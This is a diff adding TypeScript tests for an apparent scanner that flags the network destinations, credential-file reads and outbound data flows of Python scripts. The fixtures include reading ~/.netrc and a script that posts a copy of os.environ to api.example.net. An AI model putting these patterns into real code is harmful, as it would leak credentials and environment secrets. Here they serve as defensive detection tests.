@@ -49,3 +49,37 @@ describe("private data on its way out", () => {
       expect(flowsOf({ "scripts/a.py": code })).toEqual([]);
     });
 });
+
+describe("what a program reaches by itself", () => {
+  const needs = (code: string): readonly string[] => scanOf({ "scripts/a.py": code }, "imported").permissions.required.map((one) => one.permission);
+
+  it("is the machine that a handler of logs sends to", () => {
+    expect(needs("import logging.handlers\nlogging.handlers.HTTPHandler('a.example.net:8080', '/in')")).toContain("network:a.example.net");
+    expect(needs("import logging.handlers\nlogging.handlers.SMTPHandler(mailhost='mx.example.net', fromaddr='a', toaddrs=['b'], subject='c')")).toContain(
+      "network:mx.example.net",
+    );
+    expect(needs("import logging.handlers\nlogging.handlers.SysLogHandler(('a.example.net', 514))")).toContain("network:*");
+    expect(needs("import logging.handlers\nlogging.handlers.SysLogHandler('/dev/log')").filter((one) => one.startsWith("network"))).toEqual([]);
+    expect(needs("import logging.handlers\nlogging.handlers.RotatingFileHandler('a.log')").filter((one) => one.startsWith("network"))).toEqual([]);
+  });
+
+  it("is the file of logins that netrc finds", () => {
+    expect(needs("import netrc\nprint(netrc.netrc().hosts)")).toContain("filesystem.read:~/.netrc");
+    expect(needs("import netrc\nprint(netrc.netrc('a.txt').hosts)")).not.toContain("filesystem.read:~/.netrc");
+  });
+});
+
+describe("files that import nothing of each other", () => {
+  const test =
+    "import os, subprocess\n\ndef run(env):\n    return subprocess.run(['git', 'status'], env=env)\n\nENV = dict(os.environ)\nENV['A'] = '1'\nprint(run(ENV))\n";
+  const sender = "import json, requests\n\ndef call(body):\n    requests.post('https://api.example.net', data=json.dumps(body).encode())\n";
+
+  it("hand each other nothing", () => {
+    expect(flowsOf({ "tests/test_a.py": test, "scripts/a.py": sender })).toEqual([]);
+  });
+
+  it("do when one imports the other", () => {
+    expect(flowsOf({ "tests/test_a.py": `from scripts import a\n${test}a.call(ENV)\n`, "scripts/a.py": sender })).not.toEqual([]);
+    expect(flowsOf({ "tests/test_a.py": `from ..scripts.a import call\n${test}call(ENV)\n`, "scripts/a.py": sender })).not.toEqual([]);
+  });
+});
